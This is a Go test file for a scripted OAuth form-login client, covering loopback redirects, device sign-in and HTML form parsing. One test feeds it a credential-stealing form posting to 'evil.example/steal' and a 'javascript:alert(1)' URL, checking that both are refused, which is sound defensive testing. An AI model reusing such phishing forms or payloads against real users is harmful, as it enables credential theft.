package formlogin

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"

	"golang.org/x/oauth2"

	"github.com/runos/vpn/api"
	"github.com/runos/vpn/control/oauth"
)

type backend struct{}

func (backend) CheckPassword(_ context.Context, email, password string) (bool, error) {
	return email == "alice@example.com" && password == "pw", nil
}

func (backend) RevokeGrant(context.Context, string) (bool, error) { return false, nil }

func (backend) CreateSession(context.Context, string, string, string) (string, time.Time, error) {
	return "tok", time.Now().Add(24 * time.Hour), nil
}

// control is the real authorization server; loopback the app's listener.
func setup(t *testing.T) (ctrl, loopback *httptest.Server, got chan url.Values) {
	t.Helper()
	var h http.Handler
	ctrl = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { h.ServeHTTP(w, r) }))
	ctrl.StartTLS()
	t.Cleanup(ctrl.Close)
	s, err := oauth.New(oauth.Config{Issuer: ctrl.URL, Backend: backend{}, Store: oauth.NewMemoryStore()})
	if err != nil {
		t.Fatal(err)
	}
	h = s.Handler()
	loopback, got = newLoopback(t)
	return ctrl, loopback, got
}

// newLoopback is the app's loopback listener: each request's query goes
// to got.
func newLoopback(t *testing.T) (*httptest.Server, chan url.Values) {
	got := make(chan url.Values, 4)
	loopback := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got <- r.URL.Query()
		io.WriteString(w, "<!doctype html><title>x</title><main><h1>Signed in</h1><p>Signed in, you can close this tab.</p></main>")
	}))
	t.Cleanup(loopback.Close)
	return loopback, got
}

func authURL(ctrl, loopback *httptest.Server) string {
	c := oauth2.Config{ClientID: api.ClientCLI, RedirectURL: loopback.URL + "/callback",
		Endpoint: oauth2.Endpoint{AuthURL: ctrl.URL + api.PathAuthorize}}
	return c.AuthCodeURL("st", oauth2.S256ChallengeOption(oauth2.GenerateVerifier()))
}

func TestLoginReachesLoopback(t *testing.T) {
	ctrl, loopback, got := setup(t)
	res, err := Login(t.Context(), ctrl.Client(), authURL(ctrl, loopback), "alice@example.com", "pw")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.URL, loopback.URL+"/callback?") || res.Status != 200 || !strings.HasPrefix(res.Body, "Signed in\nSigned in, you can close this tab.") {
		t.Fatalf("result %+v", res)
	}
	if q := <-got; q.Get("code") == "" || q.Get("state") != "st" {
		t.Fatalf("loopback got %v", q)
	}
}

func TestLoginWrongPassword(t *testing.T) {
	ctrl, loopback, got := setup(t)
	_, err := Login(t.Context(), ctrl.Client(), authURL(ctrl, loopback), "alice@example.com", "nope")
	if err == nil || err.Error() != "the login page refused the sign-in: Wrong email or password." {
		t.Fatalf("got %v", err)
	}
	if len(got) != 0 {
		t.Fatal("the loopback listener was reached")
	}
}

func TestLoginRefusedRequest(t *testing.T) {
	ctrl, _, _ := setup(t)
	u := ctrl.URL + api.PathAuthorize + "?client_id=runos-cli&redirect_uri=http%3A%2F%2Flocalhost%3A1%2Fcb"
	_, err := Login(t.Context(), ctrl.Client(), u, "alice@example.com", "pw")
	if err == nil || !strings.Contains(err.Error(), "answered 400") || !strings.Contains(err.Error(), "loopback IP literal") {
		t.Fatalf("got %v", err)
	}
}

func TestLoginDeviceApproves(t *testing.T) {
	ctrl, _, _ := setup(t)
	resp, err := ctrl.Client().PostForm(ctrl.URL+api.PathDeviceCode, url.Values{"client_id": {api.ClientCLI}})
	if err != nil {
		t.Fatal(err)
	}
	var da oauth2.DeviceAuthResponse
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err := da.UnmarshalJSON(b); err != nil {
		t.Fatal(err)
	}
	res, err := Login(t.Context(), ctrl.Client(), da.VerificationURIComplete, "alice@example.com", "pw")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.Body, "RunOS\nDevice signed in") {
		t.Fatalf("ended on %q", res.Body)
	}
}

// A scripted browser stays on the sign-in's host and loopback.
func TestLoginStaysOnSite(t *testing.T) {
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "phished") }))
	t.Cleanup(elsewhere.Close)
	pages := map[string]string{
		"/no-form":     `<p>nothing here</p>`,
		"/posts-away":  `<form method="post" action="https://evil.example/steal"><input name="username"><input name="password" type="password"><button>Go</button></form>`,
		"/redirect":    "",
		"/login":       `<form method="post" action="/redirect"><input name="username"><input name="password" type="password"></form>`,
		"/error-again": `<form method="post"><p role="alert">Account locked.</p><input name="username"><input name="password" type="password"></form>`,
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://example.com:1/cb", http.StatusFound)
			return
		}
		io.WriteString(w, pages[r.URL.Path])
	}))
	t.Cleanup(srv.Close)
	for path, want := range map[string]string{
		"/no-form":     "has no form with username and password fields: nothing here",
		"/posts-away":  "the form posts to https://evil.example/steal, not to the page's own site",
		"/login":       "refusing to follow a redirect to http://example.com:1/cb",
		"/error-again": "the login page refused the sign-in: Account locked.",
	} {
		_, err := Login(t.Context(), srv.Client(), srv.URL+path, "u", "p")
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: got %v, want %q", path, err, want)
		}
	}
	if _, err := Login(t.Context(), nil, "javascript:alert(1)", "u", "p"); err == nil {
		t.Error("javascript: URL accepted")
	}
}

func TestParseForm(t *testing.T) {
	doc, err := parse([]byte(`<html><head><title>T</title><style>p{}</style></head><body>
<h1>Sign in</h1><p role="alert">  Wrong
 password. </p>
<form method="POST" action="/go">
<input type="hidden" name="csrf" value="x&amp;y">
<input name="username" value="pre">
<input name="password" type="password">
<input type="checkbox" name="remember" checked>
<input type="checkbox" name="spam">
<input name="off" disabled value="no">
<select name="lang"><option value="de">de</option><option selected>en</option></select>
<textarea name="note">hi</textarea>
<button type="button" name="x" value="js">JS</button>
<button type="submit" name="action" value="login">Sign in</button>
<input type="submit" name="action" value="cancel">
</form></body></html>`))
	if err != nil {
		t.Fatal(err)
	}
	if doc.alert != "Wrong password." {
		t.Errorf("alert %q", doc.alert)
	}
	if len(doc.forms) != 1 {
		t.Fatalf("%d forms", len(doc.forms))
	}
	f := doc.forms[0].clone()
	f.set("password", "secret")
	want := url.Values{"csrf": {"x&y"}, "username": {"pre"}, "password": {"secret"}, "remember": {"on"}, "lang": {"en"}, "note": {"hi"}, "action": {"login"}}
	if got := f.values(); !reflect.DeepEqual(got, want) {
		t.Errorf("values %v, want %v", got, want)
	}
	f.press("cancel")
	if f.values().Get("action") != "cancel" {
		t.Errorf("pressed cancel: %v", f.values())
	}
	if doc.forms[0].fields[2].value != "" {
		t.Error("clone shares fields")
	}
	if !strings.HasPrefix(doc.text, "Sign in\nWrong password.") || strings.Contains(doc.text, "p{}") {
		t.Errorf("text %q", doc.text)
	}
}

func FuzzParse(f *testing.F) {
	f.Add(`<form><input name=username><input name=password type=password><button name=action value=login>x</button></form>`)
	f.Add(`<form><form><input name=a></form></form><select name=s><option>`)
	f.Add(`<p role=alert>x<textarea name=t><input name=u></textarea>`)
	f.Fuzz(func(t *testing.T, page string) {
		doc, err := parse([]byte(page))
		if err != nil {
			return
		}
		for _, fm := range doc.forms {
			v := fm.clone().values()
			if _, err := url.ParseQuery(v.Encode()); err != nil {
				t.Fatalf("form data does not encode: %v", err)
			}
		}
	})
}
